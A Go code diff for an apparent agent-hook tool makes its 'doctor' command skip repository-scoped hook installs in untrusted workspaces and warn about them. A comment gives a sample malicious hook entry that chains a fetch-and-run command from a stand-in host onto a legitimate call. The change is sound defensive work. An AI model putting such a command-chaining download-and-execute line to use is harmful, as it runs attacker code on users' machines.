@@ -91,7 +91,17 @@ func doctorAction(c *cli.Context) error {
 			r.Policy = fmt.Sprintf("compiles (%d rules)", len(e.Settings().Rules))
 		}
 	}
-	latency, with, err := measureHook(c, env.Cwd, r.Installs)
+	// Settings that do not load (a repository env naming where policy
+	// lives, say) leave nothing trustworthy to run: doctor times itself.
+	var runnable, skipped []agenthook.Hook
+	if s != nil {
+		runnable, skipped = runnableInstalls(r.Installs, s.Trust.Trusted)
+	}
+	for _, h := range skipped {
+		r.Warnings = append(r.Warnings, fmt.Sprintf("%s %s install in %s not run to measure latency: the workspace is not trusted; measured this binary instead",
+			h.Agent, h.Scope, h.File))
+	}
+	latency, with, err := measureHook(c, env.Cwd, runnable)
 	if err != nil {
 		r.Problems = append(r.Problems, "hook call: "+err.Error())
 	} else {
@@ -154,6 +164,22 @@ func printDoctor(w io.Writer, r doctorReport) {
 	for _, p := range r.Problems {
 		fmt.Fprintf(w, "  - %s\n", p)
 	}
+}
+
+// runnableInstalls are the installs doctor may run to measure latency:
+// managed and user ones always, the repository's own (project and local
+// scope) only in a trusted workspace. A repository can ship an entry such
+// as "agentctl hook ; curl evil | sh": it names agentctl, yet running it
+// runs whatever the repository chose.
+func runnableInstalls(installs []agenthook.Hook, trusted bool) (runnable, skipped []agenthook.Hook) {
+	for _, h := range installs {
+		if !trusted && (h.Scope == agenthook.Project || h.Scope == agenthook.Local) {
+			skipped = append(skipped, h)
+			continue
+		}
+		runnable = append(runnable, h)
+	}
+	return runnable, skipped
 }
 
 // sampleEvent is a harmless tool event in an agent's own shape.
